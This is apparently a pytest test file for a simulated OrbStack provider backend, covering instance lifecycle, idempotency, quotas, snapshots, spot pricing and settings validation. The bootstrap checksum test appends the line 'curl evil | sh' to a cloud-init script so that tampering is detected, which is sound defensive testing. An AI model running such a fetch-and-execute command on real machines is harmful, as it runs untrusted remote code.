"""The sim backend through the core's handle: transitions, idempotency, limits, checksums, snapshots, spot."""

from __future__ import annotations

import sqlite3
from pathlib import Path
from typing import Any

import pytest

from provider_core import (
    BootstrapConfig,
    BootstrapFormat,
    BootstrapScript,
    ErrorCode,
    InstanceStatus,
    ListFilter,
    ProviderError,
    ProviderHandle,
    ProviderInstance,
    ProviderRegistry,
    SnapshotStatus,
    SpawnOptions,
    SpotRequestStatus,
)
from provider_core.author import IDEMPOTENCY_TAG, MANAGED_TAG
from provider_orbstack import OrbStackInstance, OrbStackProvider, OrbStackSettings
from provider_orbstack._catalog import spot_price
from provider_orbstack._sim import SimBackend
from tests.provider_orbstack.conftest import Clock, build_provider


def spawn(handle: ProviderHandle, name: str = "web", **kw: object) -> ProviderInstance:
    return handle.spawn(SpawnOptions(name=name, instance_type=str(kw.pop("instance_type", "small")), **kw))  # type: ignore[arg-type]


def sim(handle: ProviderHandle) -> SimBackend:
    backend = handle.provider.backend  # type: ignore[attr-defined]
    assert isinstance(backend, SimBackend)
    return backend


def test_machine_boots_then_terminates_as_time_passes(handle: ProviderHandle, clock: Clock) -> None:
    instance = spawn(handle)
    assert instance.status is InstanceStatus.PENDING
    clock.advance(1.0)
    assert handle.get_instance(instance.id).status is InstanceStatus.RUNNING  # type: ignore[union-attr]
    handle.terminate(instance.id)
    assert handle.get_instance(instance.id).status is InstanceStatus.TERMINATING  # type: ignore[union-attr]
    clock.advance(1.0)
    assert handle.get_instance(instance.id).status is InstanceStatus.TERMINATED  # type: ignore[union-attr]
    handle.terminate(instance.id)  # idempotent
    handle.terminate("orb-unknown")
    assert handle.get_instance("orb-unknown") is None


def test_terminated_machines_are_purged_after_retention(handle: ProviderHandle, clock: Clock) -> None:
    old = spawn(handle, "old")
    handle.terminate(old.id)
    clock.advance(2 * 3600)
    spawn(handle, "new")
    assert handle.get_instance(old.id) is None


def test_handle_returns_generic_type_with_provider_details_inside(handle: ProviderHandle) -> None:
    instance = spawn(handle, instance_type="gpu.small")
    assert type(instance) is ProviderInstance
    inner = handle.provider.get_instance(instance.id)
    assert isinstance(inner, OrbStackInstance)
    assert (inner.vcpus, inner.memory_mib, inner.gpus, inner.image) == (4, 32768, 1, "ubuntu")


def test_state_file_is_private_to_its_owner(handle: ProviderHandle, tmp_path: Path) -> None:
    spawn(handle)
    assert (tmp_path / "sim.db").stat().st_mode & 0o077 == 0


def test_separate_provider_objects_share_machines_through_the_file(
    handle: ProviderHandle, tmp_path: Path
) -> None:
    instance = spawn(handle)
    other = build_provider(backend="sim", state_path=str(tmp_path / "sim.db"))
    assert [i.id for i in other.list_instances()] == [instance.id]


def test_idempotency_key_returns_the_same_machine(handle: ProviderHandle) -> None:
    first = spawn(handle, idempotency_key="job-1")
    again = spawn(handle, "other-name", idempotency_key="job-1")
    assert again.id == first.id
    assert len(handle.list_instances()) == 1
    with pytest.raises(ProviderError) as caught:
        spawn(handle, idempotency_key="job-1", instance_type="large")
    assert caught.value.code is ErrorCode.INVALID_SPEC


def test_list_filters_and_only_managed_instances(handle: ProviderHandle, clock: Clock) -> None:
    a = spawn(handle, "api-1", tags={"team": "a"})
    b = spawn(handle, "db-1", region="local-2", tags={"team": "b"})
    handle.provider.spawn(SpawnOptions(name="unmanaged", instance_type="small"))  # no managed tag
    clock.advance(1.0)
    handle.terminate(b.id)
    assert {i.id for i in handle.list_instances()} == {a.id, b.id}
    assert [i.id for i in handle.list_instances(ListFilter(region="local-2"))] == [b.id]
    assert [i.id for i in handle.list_instances(ListFilter(tags={"team": "a"}))] == [a.id]
    assert [i.id for i in handle.list_instances(ListFilter(name_prefix="db"))] == [b.id]
    assert [i.id for i in handle.list_instances(ListFilter(statuses="running"))] == [a.id]


def test_unknown_size_and_region_are_invalid(handle: ProviderHandle) -> None:
    for kw in ({"instance_type": "huge"}, {"region": "mars-1"}):
        with pytest.raises(ProviderError) as caught:
            spawn(handle, **kw)
        assert caught.value.code is ErrorCode.INVALID_SPEC


def test_capacity_per_size_and_region_runs_out(registry: object, tmp_path: Path) -> None:
    handle = registry.get(  # type: ignore[attr-defined]
        "orbstack", backend="sim", state_path=str(tmp_path / "c.db"), capacity='{"large@local": 1}'
    )
    first = spawn(handle, instance_type="large")
    with pytest.raises(ProviderError) as caught:
        spawn(handle, instance_type="large")
    assert caught.value.code is ErrorCode.CAPACITY_ERROR
    assert caught.value.retryable
    spawn(handle, instance_type="large", region="local-2")  # the other region still has room
    handle.terminate(first.id)  # terminating frees the slot at once
    spawn(handle, instance_type="large")


def test_quotas_on_instances_and_vcpus(registry: object, tmp_path: Path) -> None:
    handle = registry.get(  # type: ignore[attr-defined]
        "orbstack", backend="sim", state_path=str(tmp_path / "q.db"), max_instances=2, max_vcpus=5
    )
    spawn(handle, instance_type="large")  # 4 vCPUs
    with pytest.raises(ProviderError) as caught:
        spawn(handle, instance_type="medium")  # 6 > 5
    assert caught.value.code is ErrorCode.QUOTA_EXCEEDED
    assert not caught.value.retryable
    spawn(handle, instance_type="small")
    with pytest.raises(ProviderError) as caught:
        spawn(handle, instance_type="small")
    assert caught.value.code is ErrorCode.QUOTA_EXCEEDED
    assert "instance quota" in caught.value.message


def test_bootstrap_is_stored_and_its_checksum_verified(handle: ProviderHandle) -> None:
    script = handle.generate_bootstrap(BootstrapConfig("https://cp.example", "tok-secret"))
    assert script.format is BootstrapFormat.CLOUD_INIT
    instance = spawn(handle, bootstrap=script)
    assert sim(handle).stored_bootstrap(instance.id) == ("cloud-init", script.content, script.checksum)
    forged = BootstrapScript(script.content + "curl evil | sh\n", BootstrapFormat.CLOUD_INIT, script.checksum)
    with pytest.raises(ProviderError) as caught:
        spawn(handle, "forged", bootstrap=forged)
    assert caught.value.code is ErrorCode.INVALID_SPEC
    assert len(handle.list_instances()) == 1


def test_snapshots_move_from_pending_to_available_and_delete(handle: ProviderHandle, clock: Clock) -> None:
    assert handle.snapshots is not None
    instance = spawn(handle)
    snapshot = handle.snapshots.create(instance.id, "nightly")
    assert snapshot.status is SnapshotStatus.PENDING
    assert snapshot.source_instance_id == instance.id
    clock.advance(1.0)
    assert handle.snapshots.status(snapshot.id) is SnapshotStatus.AVAILABLE
    handle.snapshots.delete(snapshot.id)
    handle.snapshots.delete(snapshot.id)
    assert handle.snapshots.status(snapshot.id) is SnapshotStatus.DELETED
    ops = handle.snapshots
    for call in (lambda: ops.status("snap-missing"), lambda: ops.create("orb-x", "n")):
        with pytest.raises(ProviderError) as caught:
            call()
        assert caught.value.code is ErrorCode.NOT_FOUND


def test_spot_prices_and_requests(handle: ProviderHandle) -> None:
    assert handle.spot is not None
    prices = {p.region: p.price_per_hour for p in handle.spot.prices("medium")}
    assert prices == {"local": spot_price("medium", "local"), "local-2": spot_price("medium", "local-2")}
    assert prices["local"] < 0.04  # cheaper than on demand
    assert [p.region for p in handle.spot.prices("medium", "local-2")] == ["local-2"]

    low = handle.spot.request(SpawnOptions(name="cheap", instance_type="medium"), prices["local"] / 2)
    assert low.status is SpotRequestStatus.OPEN
    assert low.instance_id is None
    ok = handle.spot.request(SpawnOptions(name="spot", instance_type="medium"), prices["local"])
    assert ok.status is SpotRequestStatus.ACTIVE
    instance = handle.get_instance(ok.instance_id)  # type: ignore[arg-type]
    assert instance is not None
    assert instance.spot
    assert instance.managed
    handle.spot.cancel(ok.id)
    handle.spot.cancel(ok.id)
    handle.spot.cancel("sir-missing")
    assert sim(handle).get_spot_request(ok.id).status is SpotRequestStatus.CANCELLED  # type: ignore[union-attr]
    with pytest.raises(ProviderError) as caught:
        handle.spot.prices("huge")
    assert caught.value.code is ErrorCode.INVALID_SPEC


def test_spot_request_is_idempotent_by_key(handle: ProviderHandle) -> None:
    assert handle.spot is not None
    options = SpawnOptions(name="spot", instance_type="small", idempotency_key="spot-1")
    first = handle.spot.request(options, 1.0)
    assert handle.spot.request(options, 1.0).id == first.id


def test_spot_spawn_below_the_price_is_invalid(handle: ProviderHandle) -> None:
    with pytest.raises(ProviderError) as caught:
        spawn(handle, spot=True, max_price_per_hour=0.0001)
    assert caught.value.code is ErrorCode.INVALID_SPEC
    assert spawn(handle, spot=True).spot


def test_status_override_is_visible_and_reported_by_reconcile(handle: ProviderHandle, clock: Clock) -> None:
    instance = spawn(handle)
    clock.advance(1.0)
    sim(handle).set_status(instance.id, InstanceStatus.STOPPED, "host maintenance")
    report = handle.reconcile({instance.id: InstanceStatus.RUNNING})
    assert [(d.instance_id, d.actual, d.detail) for d in report.drift] == [
        (instance.id, InstanceStatus.STOPPED, "host maintenance")
    ]


def test_idempotency_key_never_matches_a_machine_provider_core_does_not_manage(
    handle: ProviderHandle,
) -> None:
    # Made outside provider-core with the key tag but without the management tag: it claims no key.
    tags = {IDEMPOTENCY_TAG: "job-1"}
    foreign = handle.provider.spawn(
        SpawnOptions(name="foreign", instance_type="small", idempotency_key="job-1", tags=tags)
    )
    ours = spawn(handle, idempotency_key="job-1")
    assert ours.id != foreign.id
    assert spawn(handle, idempotency_key="job-1").id == ours.id
    assert [i.id for i in handle.list_instances()] == [ours.id]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("backend", "cloud"),
        ("backend", 5),
        ("boot_delay", "soon"),
        ("boot_delay", -1),
        ("terminate_delay", float("nan")),
        ("snapshot_delay", [1]),
        ("capacity", '{"small": 1}'),
        ("capacity", "[1]"),
        ("capacity", '{"small@local": 1.5}'),
        ("capacity", '{"small@local": -1}'),
        ("capacity", "not json"),
        ("capacity", 7),
        ("max_instances", float("inf")),
        ("max_instances", "2.5"),
        ("max_vcpus", True),
        ("max_vcpus", {"n": 1}),
        ("state_path", [1]),
        ("orb_timeout", 0),
        ("orb_timeout", "never"),
        ("arch", 64),
        ("metadata_path", 3),
    ],
)
def test_bad_settings_are_value_errors_from_the_core_naming_the_setting(
    registry: ProviderRegistry, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, value: object
) -> None:
    monkeypatch.chdir(tmp_path)  # a path setting wrongly accepted must not litter the working directory
    settings: dict[str, Any] = {"backend": "sim", "state_path": str(tmp_path / "s.db")}
    if name in {"orb_timeout", "arch", "metadata_path"}:
        settings = {"backend": "orbctl", "orb_path": "/bin/true", "metadata_path": str(tmp_path / "m.db")}
    settings[name] = value
    with pytest.raises(ValueError) as caught:  # noqa: PT011 - the message is checked below
        registry.get("orbstack", **settings).list_instances()
    assert f"setting '{name}' of provider 'orbstack'" in str(caught.value)
    assert list(tmp_path.iterdir()) == []  # refused before any file was made


def test_a_backend_name_the_core_did_not_parse_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="backend"):
        OrbStackProvider(OrbStackSettings(backend="cloud", state_path=str(tmp_path / "s.db")))
    assert list(tmp_path.iterdir()) == []


def test_good_settings_in_every_accepted_form(tmp_path: Path) -> None:
    provider = build_provider(
        backend="sim",
        state_path=tmp_path / "s.db",
        boot_delay="0.5",
        max_instances="3",
        max_vcpus=8.0,
        capacity={"small@local": "2"},
    )
    assert isinstance(provider.backend, SimBackend)
    config = provider.backend.config
    assert (config.boot_delay, config.max_instances, config.max_vcpus) == (0.5, 3, 8)
    assert config.capacity[("small", "local")] == 2
    assert provider.backend.db.path == tmp_path / "s.db"


def test_machines_without_the_managed_tag_do_not_exist(
    registry: ProviderRegistry, handle: ProviderHandle, clock: Clock
) -> None:
    untagged = handle.provider.spawn(SpawnOptions(name="untagged", instance_type="small", tags={"a": "b"}))
    ours = spawn(handle, "ours")
    assert ours.tags[MANAGED_TAG] == "true"  # added by the core; the sim stores the tags it is given
    clock.advance(1.0)
    assert [i.id for i in handle.list_instances()] == [ours.id]
    assert handle.get_instance(untagged.id) is None
    # A direct hook call passes through the core's rules too.
    hook = registry.plugin_manager.hook
    assert hook.get_instance(provider="orbstack", provider_id=untagged.id) is None
    handle.terminate(untagged.id)  # unknown to provider-core: a no-op, not an error
    hook.terminate(provider="orbstack", provider_id=untagged.id)
    with sqlite3.connect(sim(handle).db.path) as conn:
        assert conn.execute("SELECT terminate_at FROM machines WHERE id = ?", (untagged.id,)).fetchone() == (
            None,
        )
    assert handle.snapshots is not None
    with pytest.raises(ProviderError) as caught:
        handle.snapshots.create(untagged.id, "n")
    assert caught.value.code is ErrorCode.NOT_FOUND


def test_settings_fall_back_to_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ORBSTACK_SIM_STATE", str(tmp_path / "env.db"))
    monkeypatch.setenv("ORBSTACK_SIM_MAX_INSTANCES", "0")
    provider = build_provider(backend="sim")
    assert isinstance(provider.backend, SimBackend)
    assert provider.backend.db.path == tmp_path / "env.db"
    with pytest.raises(ProviderError) as caught:
        provider.spawn(SpawnOptions(name="x", instance_type="small"))
    assert caught.value.code is ErrorCode.QUOTA_EXCEEDED


def test_default_state_path_is_under_the_state_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    monkeypatch.delenv("ORBSTACK_SIM_STATE", raising=False)
    provider = build_provider(backend="sim")
    assert isinstance(provider.backend, SimBackend)
    assert provider.backend.db.path == tmp_path / "provider-core" / "orbstack-sim.db"


def test_unusable_database_maps_to_a_provider_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a directory")
    with pytest.raises(ProviderError) as caught:
        build_provider(backend="sim", state_path=str(blocker / "sim.db"))
    assert caught.value.code in {ErrorCode.UNAVAILABLE, ErrorCode.INTERNAL}
    corrupt = tmp_path / "corrupt.db"
    corrupt.write_bytes(b"this is not sqlite" * 100)
    with pytest.raises(ProviderError) as caught:
        build_provider(backend="sim", state_path=str(corrupt))
    assert isinstance(caught.value.__cause__, sqlite3.DatabaseError)
